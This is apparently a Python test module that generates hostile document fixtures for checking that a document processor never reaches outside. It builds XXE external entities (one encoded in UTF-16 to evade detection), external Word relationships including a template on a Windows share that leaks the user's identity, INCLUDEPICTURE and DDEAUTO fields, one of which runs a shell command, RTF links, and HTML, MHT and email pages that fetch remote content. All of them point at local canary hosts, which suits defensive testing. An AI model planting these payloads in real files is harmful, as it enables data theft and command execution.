"""Documents that reach out: for a site, a file on this machine, a program. Entered in `EVIL`."""

from __future__ import annotations

import io
import zipfile

from tests.hostile.evil import NEEDLE, PORT, evil, package_of, paragraph, word_document
from tests.hostile.seeds import seeds, zipped

_SITE = f"http://127.0.0.1:{PORT}"
_OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
_RELATIONS = "http://schemas.openxmlformats.org/package/2006/relationships"
_OUTER = f'<!DOCTYPE x [<!ENTITY % p SYSTEM "{_SITE}/p"> %p; <!ENTITY e SYSTEM "{_SITE}/e">]>'


def _linked(kind: str, body: str = "", target: str = f"{_SITE}/x") -> bytes:
    """A Word document with a relation that leads elsewhere."""
    relation = f'<Relationship Id="x" Type="{_OFFICE}/{kind}" TargetMode="External" Target="{target}"/>'
    others = {
        "word/_rels/document.xml.rels": f'<Relationships xmlns="{_RELATIONS}">{relation}</Relationships>'
    }
    return package_of(word_document(paragraph(NEEDLE) + body), others)


def _field(instruction: str) -> str:
    return (
        '<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r>'
        f"<w:r><w:instrText>{instruction}</w:instrText></w:r>"
        '<w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>旧值</w:t></w:r>'
        '<w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>'
    )


def _with(kind: str, part: str, content: bytes) -> bytes:
    """A good package with one part replaced."""
    with zipfile.ZipFile(io.BytesIO(seeds()[kind])) as package:
        members = {name: package.read(name) for name in package.namelist()}
    return zipped(members | {part: content})


def _inserted(kind: str, part: str, doctype: str) -> bytes:
    """A good package with a document type put before the root of one part."""
    with zipfile.ZipFile(io.BytesIO(seeds()[kind])) as package:
        declared, rest = package.read(part).split(b"?>", 1)
    return _with(kind, part, declared + b"?>" + doctype.encode() + rest)


@evil("outer_entity.docx", "archived", "corrupt")
def outer_entity() -> bytes:
    return package_of(word_document(paragraph(f"{NEEDLE}&e;"), _OUTER))


@evil("outer_entity_wide.docx", "archived", "corrupt")
def outer_entity_wide() -> bytes:
    """In UTF-16, where a search for the letters of `DOCTYPE` finds nothing."""
    doctype = f'<!DOCTYPE x [<!ENTITY e SYSTEM "{_SITE}/wide">]>'
    main = f'<?xml version="1.0" encoding="UTF-16"?>{word_document(paragraph(NEEDLE + "&e;"), doctype)}'
    return package_of(main.encode("utf-16"))


@evil("outer_entity_in_types.docx", "archived", "corrupt")
def outer_entity_in_types() -> bytes:
    return _inserted("docx", "[Content_Types].xml", _OUTER)


@evil("outer_entity_in_relations.docx", "archived", "corrupt")
def outer_entity_in_relations() -> bytes:
    return _inserted("docx", "_rels/.rels", _OUTER)


@evil("outer_entity_in_styles.docx", "archived", "corrupt")
def outer_entity_in_styles() -> bytes:
    return _inserted("docx", "word/styles.xml", _OUTER)


@evil("outer_entity.ofd", "archived", "corrupt")
def outer_entity_ofd() -> bytes:
    return _inserted("ofd", "OFD.xml", _OUTER)


@evil("outer_entity_on_a_page.ofd", "archived", "corrupt")
def outer_entity_ofd_page() -> bytes:
    return _inserted("ofd", "Doc_0/Pages/Page_0/Content.xml", _OUTER)


@evil("outer_entity.xlsx", "archived", "corrupt", "crashed")
def outer_entity_xlsx() -> bytes:
    return _inserted("xlsx", "xl/worksheets/sheet1.xml", _OUTER)


@evil("linked_picture.docx", "archived", needle=NEEDLE)
def linked_picture() -> bytes:
    return _linked("image", _field(f'INCLUDEPICTURE "{_SITE}/picture" \\d'))


@evil("linked_object.docx", "archived", needle=NEEDLE)
def linked_object() -> bytes:
    return _linked("oleObject", _field(f'LINK Word.Document "{_SITE}/object" \\a'))


@evil("linked_document.docx", "archived", needle=NEEDLE)
def linked_document() -> bytes:
    return _linked("subDocument", '<w:subDoc r:id="x"/>')


@evil("linked_frame.docx", "archived", needle=NEEDLE)
def linked_frame() -> bytes:
    return _linked("frame")


@evil("linked_share.docx", "archived", needle=NEEDLE)
def linked_share() -> bytes:
    """A template on a share of Windows, which would be told who the user is."""
    return _linked("attachedTemplate", target=f"file:///\\\\127.0.0.1@{PORT}\\t.dotm")


@evil("included_file.docx", "archived", needle=NEEDLE)
def included_file() -> bytes:
    return _linked("image", _field('INCLUDETEXT "{canary}"'), "{canary}")


@evil("dynamic_exchange.docx", "archived", needle=NEEDLE)
def dynamic_exchange() -> bytes:
    return _linked("hyperlink", _field("DDEAUTO sh -c touch /tmp/outside-dde"))


@evil("linked.rtf", "archived", needle=NEEDLE)
def linked_rtf() -> bytes:
    said = "".join(f"\\u{ord(char)}?" for char in NEEDLE)
    return (
        f"{{\\rtf1\\ansi{{\\*\\template {_SITE}/t}}"
        f'{{\\field{{\\*\\fldinst INCLUDEPICTURE "{_SITE}/i"}}{{\\fldrslt x}}}}'
        f"{{\\object\\objlink\\objupdate{{\\*\\objclass htmlfile}}{{\\*\\objdata 0105}}}} {said}\\par}}"
    ).encode()


_PAGE = (
    f'<html><head><meta charset="utf-8"><meta http-equiv="refresh" content="0; {_SITE}/r">'
    f'<base href="{_SITE}/"><script src="{_SITE}/s"></script></head><body><p>{NEEDLE}</p>'
    f'<iframe src="{_SITE}/f"></iframe><object data="{_SITE}/o"></object>'
    f'<img src="file:///{{canary}}"><video poster="{_SITE}/v"></video></body></html>'
)


@evil("page.html", "archived", needle=NEEDLE)
def page() -> bytes:
    return _PAGE.encode()


@evil("page_that_calls_itself.doc", "archived", needle=NEEDLE)
def page_as_doc() -> bytes:
    return _PAGE.encode()


@evil("page.mht", "archived", needle=NEEDLE)
def page_mht() -> bytes:
    head = (
        "MIME-Version: 1.0\r\nContent-Type: multipart/related; boundary=b\r\n\r\n--b\r\n"
        f"Content-Type: text/html; charset=utf-8\r\nContent-Location: {_SITE}/l\r\n\r\n"
    )
    return f"{head}{_PAGE}\r\n--b--\r\n".encode()


@evil("body_elsewhere.eml", "archived", "not_a_document", "empty", "corrupt")
def body_elsewhere() -> bytes:
    return (
        "From: a@example.org\r\nSubject: x\r\nMIME-Version: 1.0\r\n"
        f'Content-Type: message/external-body; access-type=URL; URL="{_SITE}/b"\r\n\r\n'
        "Content-Type: text/plain\r\n\r\n"
    ).encode()
